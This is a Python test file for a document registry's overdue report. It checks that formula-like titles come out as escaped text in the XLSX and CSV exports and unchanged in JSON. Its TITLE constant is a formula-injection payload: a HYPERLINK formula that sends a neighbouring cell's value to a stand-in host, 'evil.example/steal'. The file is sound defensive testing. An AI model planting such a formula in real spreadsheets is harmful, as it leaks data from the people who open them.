"""A document title that a spreadsheet would run as a formula (a registry can receive
one from any tenant through platform delivery) reaches the monthly overdue report's
XLSX and CSV as plain text with a leading quote, never as a live formula; the JSON
report keeps the title as it was registered."""

from __future__ import annotations

import csv
import io

import openpyxl

from tests.support.gateway import Gateway, User, ok
from tests.support.overdue import SetClock, build_office, new_document, shanghai
from tests.support.waiting import eventually

TITLE = '=HYPERLINK("http://evil.example/steal?d="&B2,"点此查看原文")'
NUMBER = "@黔注测〔2026〕1号"


def test_formula_like_titles_are_escaped_in_the_xlsx_and_csv_report(
    gw: Gateway, platform_admin: User, clock: SetClock
):
    office = build_office(gw, platform_admin, "公式注入测试厅")
    registrar = office["wenshu"]
    clock(shanghai(2026, 8, 3, 10))  # a Monday: the 处室签收 is due at the end of Thu 6 Aug
    new_document(office, TITLE, "电子政务处", number=NUMBER)
    clock(shanghai(2026, 9, 1, 10))  # never signed: overdue in August

    def listed() -> dict:
        report = ok(registrar.get("/reports/overdue", params={"month": "2026-08"}))
        return report if report["items"] else {}

    report = eventually(listed, timeout=40)
    assert [(i["title"], i["doc_number"]) for i in report["items"]] == [(TITLE, NUMBER)]

    response = registrar.get("/reports/overdue", params={"month": "2026-08", "format": "xlsx"})
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["超期明细"]
    number, title = sheet.cell(row=2, column=2), sheet.cell(row=2, column=3)
    assert (title.value, title.data_type) == ("'" + TITLE, "s")  # text, not a formula
    assert (number.value, number.data_type) == ("'" + NUMBER, "s")
    assert sheet.cell(row=2, column=1).value == 1  # numbers stay numbers

    response = registrar.get("/reports/overdue", params={"month": "2026-08", "format": "csv"})
    assert response.status_code == 200, response.text
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert lines[1][1:3] == ["'" + NUMBER, "'" + TITLE]
    assert lines[1][0] == "1"
